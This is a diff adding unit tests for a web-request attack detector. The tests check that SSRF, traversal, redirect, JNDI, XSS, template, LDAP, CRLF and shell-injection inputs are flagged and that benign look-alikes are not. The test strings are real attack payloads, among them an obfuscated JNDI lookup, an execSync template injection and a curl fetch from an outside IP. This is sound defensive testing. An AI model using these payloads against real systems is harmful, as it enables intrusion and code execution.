@@ -173,3 +173,121 @@ t.test('decoding helpers: JSON keys with values and depth, XML text and attribut
   xmlTexts('<?xml version="1.0"?><a href="u"><b>t1</b><![CDATA[<raw>]]><!-- c --></a>', out)
   t.same(out, ['href', 'u', 'b', 't1', 'b', '<raw>'])
 })
+
+// ---- issue 22, second round: gaps found on the public evaluation's tuning half, closed by kind ------
+
+const raw = (inputs: Partial<AttackInputs>) => detector.detect({ ...base, ...inputs, headers: { ...base.headers, ...inputs.headers } })
+const form = (body: string) => raw({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
+
+t.test('a few JSON fields are read even with no suspicious byte: bare addresses, paths, commands', async (t) => {
+  t.same(json({ webhook_url: '127.0.0.1' }), ['ssrf'])
+  t.same(json({ source: '0x7f.0x0.0.1' }), ['ssrf'])
+  t.same(json({ source: '0000:0000:0000:0000:0000:0000:0000:0001' }), ['ssrf'])
+  t.same(json({ source: 'http:127.0.0.1/' }), ['ssrf'])
+  t.same(json({ path: 'C:/mysql/data/mysql.log' }), ['path_traversal'])
+  t.same(json({ name: 'ipconfig' }), ['rce'])
+  t.same(json({ redirect_uri: 'http:www.trusted.example@0xd8.0x3a.0xd6.0xce' }), ['open_redirect'])
+  // what stays quiet: the same shapes where they are data
+  t.same(json({ id: 7, name: 'Ann', price: '12.50', version: '1.2.3', ip: '203.0.113.7' }), [])
+  t.same(json({ homepage: 'https://example.com', release: '10.5.1' }), [])
+})
+
+t.test('traversal: backslash climbs, odd separators, long prefixes, .. then NUL, Program Files', async (t) => {
+  t.same(q('/%252e%252e\\%252e%252e\\%252e%252e\\%252e%252e\\', 'file'), ['path_traversal'])
+  t.same(q('%\\..%\\..%\\..%\\..%\\..%', 'template'), ['path_traversal'])
+  t.same(q('..\uf025..\uf025..\uf025etc\uf025issue', 'page'), ['path_traversal'])
+  t.same(q('..2fetc2fpasswd\0', 'x'), ['path_traversal'])
+  t.same(q(`/${'A'.repeat(200)}/../../../../etc`, 'x'), ['path_traversal'])
+  t.same(q('/Program Files\\Apache Group\\Apache\\logs\\error.log', 'page'), ['path_traversal'])
+  t.same(q('Wait.. what.. no..'), [])
+  t.same(q('/docs/program-files-explained'), [])
+})
+
+t.test('SSRF: an authority parsers read differently, naming several hosts', async (t) => {
+  t.same(q('http://1.1.1.1 &@2.2.2.2# @3.3.3.3/', 'url'), ['ssrf'])
+  t.same(q('http://user:secret@api.example.com/v1', 'endpoint'), [])
+  t.same(q('see http://a.example.com & mail b@c.example.org'), [])
+})
+
+t.test('open redirects: sanitiser leftovers, hosts as paths, redirectors handed over', async (t) => {
+  for (const v of ['/<>//evil.example', '<>//evil.example', '/www.evil-site.example', '/evil.example.org//', 'http://.evil.example', '/out?//attacker.example.net', '/https://evil.example/']) {
+    t.same(q(v, 'redirect'), ['open_redirect'], v)
+  }
+  t.same(raw({ path: '/out', query: 'attacker.example.net' }), ['open_redirect'])
+  t.same(raw({ path: '/evil.example/%2f%2e%2e' }), ['open_redirect'])
+  // a relative page, a plain file path, a redirector with parameters of its own stay quiet
+  for (const v of ['/account/settings', '/index.html', '/docs/v1.2/intro', 'https://accounts.example.com/cb']) t.same(q(v, 'next'), [], v)
+  t.same(raw({ path: '/out', query: 'page=2' }), [])
+  t.same(raw({ path: '/static/app.min.js/' }), [])
+})
+
+t.test('JNDI tangles with unbalanced braces, CRLF after blanks, a single LDAP clause probing', async (t) => {
+  t.ok(jndiLookup('${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://${hostname}.test/a}'))
+  t.notOk(jndiLookup('${${env:HOME}'))
+  t.same(q(' \rHeader-Test: x', 'lang'), ['crlf'])
+  t.same(q('(password=X*)', 'user'), ['ldapi'])
+  t.same(q('(see below*)'), [])
+  t.same(q('f(x=2*3)'), [])
+})
+
+t.test('template injection: end tags, a mustache expression reaching Node', async (t) => {
+  t.same(q('{{e.user.get_username}} : {{e.user.password}}{% endfor %}'), ['ssti'])
+  t.ok(q(`{{this.push "return require('child_process').execSync('ls -la');"}}`).includes('ssti'))
+  t.same(q('{{this.pop}}'), ['ssti'])
+  t.same(q('Hello {{name}}, your order {{order_id}} shipped'), [])
+  t.same(q('{{this.title}} by {{this.author}}'), [])
+})
+
+t.test('XSS: namespaced animation, handler and sink in one tag, a sink after an expression, disguised links', async (t) => {
+  t.same(q('<t:set attributeName="innerHTML" to="x">'), ['xss'])
+  t.same(q('<img src onerror /" \'"= alt=alert(1)//">'), ['xss'])
+  t.same(q('x.toXMLString().match(/.*/m),alert(RegExp.input);'), ['xss'])
+  t.same(q('<A HREF="http://6&#09;6.000146.0x7.147/">XSS</A>'), ['xss'])
+  t.same(q('<a href="http://0x42.0x0000066.0x7.0x93/">x</a>'), ['xss'])
+  t.same(q('<A HREF="http://trusted.example@evil.example">XSS</A>'), ['xss'])
+  t.same(q('<div id="67"><!DOCTYPE x [ <!ATTLIST img xmlns CDATA "http://www.w3.org/1999/xhtml" src CDATA "xx:x" onerror CDATA "alert(67)">]><img />'), ['xss', 'xxe'])
+  t.same(q('\'\';!--"<XSS>=&{()}'), ['xss'])
+  t.same(q('xss&#58;ex&#x2F;*XSS*//*/*/pression(alert(\\"XSS\\"))\'&gt;'), ['xss'])
+  t.same(raw({ path: '/api/items/&store=%27,init%29%29;}if%281==1%29{confirm%28/XSSPOSED/%29;//' }), ['xss'])
+  t.same(raw({ path: '/wiki/Mercury_(planet)/history' }), [])
+  t.same(q('let r = &{ x }; y = &mut z'), [])
+  // a plain link, a version list in prose
+  t.same(q('<a href="https://example.com/docs">docs</a>'), [])
+  t.same(q('Tested on Chrome (any version), Firefox (1.5), alert levels (2)'), [])
+})
+
+t.test('shell: + for blanks, a reader on a Windows path, redirections, substitutions in a word, leading line breaks', async (t) => {
+  for (const v of ['+|+dir+c:\\+|', '$&&dir+c:/', '\n+dir+c:/', 'dir C:\\Documents and Settings\\*', "psql -o'|id>/tmp/foo'", 'who$(echo am)i', '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n', '\\n\\033[2curl http://198.51.100.7/t.txt', 'which gcc']) {
+    t.ok(shellInjection(v.toLowerCase()) || bareCommand(v.toLowerCase()), v)
+  }
+  t.same(header('x-client-data', '+|+Dir+c:%2f'), ['rce'])
+  t.same(raw({ path: "/api/v1/items/perl%20-e%20'print%20%22X%22x4096'" }), ['rce'])
+  t.same(form('comment=' + encodeURIComponent("system('echo " + 'X'.repeat(400))), ['rce'])
+  // what stays quiet: + in data, which in a question, a jQuery call, an English line after a break
+  for (const v of ['a+b=c', 'c++ & rust', 'which is best?', 'which one', '$(document).ready(f)', 'price$(usd)', '\nDear team,\nthanks\nsee you', '\n### Setup\n\nYou will make a directory\nls = []\ncat = "x"', '\\033[1mBold\\033[0m text']) {
+    t.notOk(shellInjection(v.toLowerCase()) || bareCommand(v.toLowerCase()), v)
+  }
+  t.same(raw({ path: '/api/whoami' }), [])
+})
+
+t.test('JSON documents: a JSON text inside a document, nesting with several fields, a schema', async (t) => {
+  const createOptions = JSON.stringify({ HostConfig: { Binds: ['/var/run/docker.sock:/var/run/docker.sock'], NetworkMode: 'host' } })
+  t.same(json({ modules: { a: { settings: { createOptions, image: 'registry/x:1' }, status: 'running', type: 'docker', version: '1.0', env: { A: { value: '1' }, B: { value: '2' } }, restartPolicy: 'always' } } }), [])
+  const prisma = JSON.stringify({ datamodel: 'datamodel.prisma', endpoint: 'http://localhost:4466/myservice/dev', generate: [{ generator: 'javascript-client', output: './generated/prisma' }], hooks: { 'post-deploy': ['prisma1 generate'] }, secret: 'mysecret42' })
+  t.same(form(`payload=${encodeURIComponent(prisma)}`), [])
+  t.same(json({ $schema: 'https://json.schemastore.org/x', url: 'http://localhost:8080/' }), [])
+  // a request's few fields, even nested, still count
+  t.same(json({ config: { url: 'http://localhost:8080/admin' } }), ['ssrf'])
+  t.same(json({ data: { attributes: { url: 'http://127.0.0.1/' } } }), ['ssrf'])
+})
+
+t.test('splitting encoded inside itself, any SSI directive, LDAP filters starting with an operator', async (t) => {
+  t.same(raw({ path: '/%%0a0aSet-Cookie:crlf=injection' }), ['crlf'])
+  t.same(q('%%0a0aSet-Cookie:crlf=injection', 'lang'), ['crlf'])
+  t.same(q('100% \nsure'), [])
+  t.same(q('<!--#directive param="value" -->'), ['ssi'])
+  t.same(q('<!-- a comment -->'), [])
+  t.same(q('&(objectClass=*)', 'user'), ['ldapi'])
+  t.same(q('!(cn=admin)', 'filter'), ['ldapi'])
+  t.same(q('Tom & (Jerry)'), [])
+})
